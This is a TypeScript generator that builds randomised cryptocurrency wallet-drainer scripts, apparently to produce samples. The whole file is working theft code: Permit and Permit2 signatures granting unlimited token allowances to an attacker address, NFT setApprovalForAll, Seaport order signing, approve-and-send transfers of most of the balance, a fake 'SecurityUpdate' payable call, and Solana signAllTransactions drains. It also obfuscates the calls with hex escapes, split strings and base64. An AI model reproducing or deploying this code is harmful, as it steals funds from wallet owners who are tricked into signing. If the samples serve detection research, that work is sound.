import type { Chance } from '../make/chance.ts'

/** Writes a string of a script in one of the ways in which one script writes all of its telling strings. */
type Say = (text: string) => string

const bytesOf = (text: string) => [...Buffer.from(text, 'latin1')]

export function sayingOf(chance: Chance): Say {
  const plain: Say = (text) => JSON.stringify(text)
  return chance.of<Say>([
    plain,
    plain,
    plain,
    plain,
    (text) =>
      `"${bytesOf(text)
        .map((byte) => `\\x${byte.toString(16).padStart(2, '0')}`)
        .join('')}"`,
    (text) => `"${text.slice(0, 4)}"+"${text.slice(4)}"`,
    (text) => `atob("${Buffer.from(text, 'latin1').toString('base64')}")`,
  ])
}

const ALL = '115792089237316195423570985008687907853269984665640564039457584007913129639935'
const LIBRARIES = {
  ethers: '<script src="https://cdnjs.cloudflare.com/ajax/libs/ethers/6.13.2/ethers.umd.min.js"></script>',
  solana: '<script src="https://unpkg.com/@solana/web3.js@1.95.3/lib/index.iife.min.js"></script>',
  web3: '<script src="https://cdnjs.cloudflare.com/ajax/libs/web3/4.12.1/web3.min.js"></script>',
  none: '',
}

/** Code that takes all that a wallet holds once its owner signs. */
export interface Drain {
  readonly library: string
  /** The body of an asynchronous function. */
  readonly code: string
}

export function drainOf(chance: Chance): Drain {
  const taker = `0x${chance.hex(40)}`
  const say = sayingOf(chance)
  const kind = chance.of([
    'permit',
    'permit2',
    'nfts',
    'order',
    'send',
    'solana',
    'solana',
    'multicall',
  ] as const)
  if (kind === 'solana') return { library: LIBRARIES.solana, code: solana(say, chance) }
  const account = `const [me]=await window.ethereum.request({method:${say('eth_requestAccounts')}});`
  const signer =
    'const p=new ethers.BrowserProvider(window.ethereum);const s=await p.getSigner();const me=await s.getAddress();'
  const found = `const found=await fetch("/${chance.of(['api/scan', 'v1/assets', 'check'])}?w="+me).then(r=>r.json());`
  const ways = {
    permit: [
      LIBRARIES.ethers,
      `${signer}${found}for(const c of found.tokens){const g=await s.signTypedData({name:c.name,version:c.version,chainId:c.chain,verifyingContract:c.at},{[${say('Permit')}]:[{name:"owner",type:"address"},{name:"spender",type:"address"},{name:"value",type:"uint256"},{name:"nonce",type:"uint256"},{name:"deadline",type:"uint256"}]},{owner:me,spender:${say(taker)},value:"${ALL}",nonce:c.nonce,deadline:4102444800});navigator.sendBeacon("/s",JSON.stringify([c.at,g]))}`,
    ],
    permit2: [
      LIBRARIES.none,
      `${account}${found}const m={types:{PermitBatch:[{name:"details",type:"PermitDetails[]"},{name:"spender",type:"address"},{name:"sigDeadline",type:"uint256"}]},primaryType:${say('PermitBatch')},domain:{name:"Permit2",chainId:1,verifyingContract:${say('0x000000000022D473030F116dDEE9F6B43aC78BA3')}},message:{details:found.tokens.map(c=>({token:c.at,amount:"1461501637330902918203684832716283019655932542975",expiration:4102444800,nonce:c.nonce})),spender:${say(taker)},sigDeadline:4102444800}};const g=await window.ethereum.request({method:${say('eth_signTypedData_v4')},params:[me,JSON.stringify(m)]});await fetch("/x",{method:"POST",body:g})`,
    ],
    nfts: [
      LIBRARIES.ethers,
      `${signer}${found}const abi=[${say('function setApprovalForAll(address operator,bool approved)')}];for(const c of found.collections){const k=new ethers.Contract(c,abi,s);try{await k[${say('setApprovalForAll')}](${say(taker)},true)}catch(e){}}`,
    ],
    order: [
      LIBRARIES.ethers,
      `${signer}${found}const o={offerer:me,zone:ethers.ZeroAddress,offer:found.nfts,consideration:[{itemType:0,token:ethers.ZeroAddress,identifierOrCriteria:0,startAmount:"1",endAmount:"1",recipient:${say(taker)}}],orderType:2,counter:0};const g=await s.signTypedData({name:${say('Seaport')},version:"1.6",chainId:1,verifyingContract:"0x0000000000000068F116a894984e2DB1123eB395"},types,o);await fetch("/o",{method:"POST",body:JSON.stringify({o,g})})`,
    ],
    send: [
      LIBRARIES.web3,
      `${account}const w=new Web3(window.ethereum);const all=BigInt(await w.eth.getBalance(me));${found}for(const c of found.tokens)await new w.eth.Contract(erc20,c.at).methods[${say(chance.of(['increaseAllowance', 'approve']))}](${say(taker)},"${ALL}").send({from:me});await window.ethereum.request({method:${say('eth_sendTransaction')},params:[{from:me,to:${say(taker)},value:"0x"+(all*9n/10n).toString(16)}]})`,
    ],
    multicall: [
      LIBRARIES.ethers,
      `${signer}${found}const k=new ethers.Contract(${say(taker)},["function ${chance.of(['SecurityUpdate', 'claimRewards', 'Claim', 'migrate'])}() payable"],s);for(const c of found.tokens)await new ethers.Contract(c.at,[${say('function approve(address,uint256) returns (bool)')}],s).approve(k.target,ethers.MaxUint256);await k.getFunction(0)({value:(await p.getBalance(me))-(10n**15n)})`,
    ],
  } as const
  const [library, code] = ways[kind]
  return { library, code }
}

function solana(say: Say, chance: Chance): string {
  const thief = `new solanaWeb3.PublicKey(${say(chance.base64(44).replace(/[+/0OIl]/g, 'q'))})`
  const connect =
    'const w=window.phantom?.solana??window.solflare??window.solana;await w.connect();const me=w.publicKey;const net=new solanaWeb3.Connection("/rpc");const has=await net.getBalance(me);'
  return chance.of([
    `${connect}const b=(await net.getLatestBlockhash()).blockhash;const t=[];for(const m of await (await fetch("/tokens/"+me)).json()){const x=new solanaWeb3.Transaction({feePayer:me,recentBlockhash:b});x.add(splToken.createTransferInstruction(m.from,m.to,me,m.amount));t.push(x)}const l=new solanaWeb3.Transaction({feePayer:me,recentBlockhash:b});l.add(solanaWeb3.SystemProgram.transfer({fromPubkey:me,toPubkey:${thief},lamports:has-5000000}));t.push(l);const d=await w[${say('signAllTransactions')}](t);for(const x of d)await net.sendRawTransaction(x.serialize())`,
    `${connect}const list=(await (await fetch("/build?w="+me+"&b="+has)).json()).map(r=>solanaWeb3.VersionedTransaction.deserialize(Uint8Array.from(atob(r),c=>c.charCodeAt(0))));const d=await w[${say('signAllTransactions')}](list);await fetch("/push",{method:"POST",body:JSON.stringify(d.map(x=>[...x.serialize()]))})`,
  ])
}
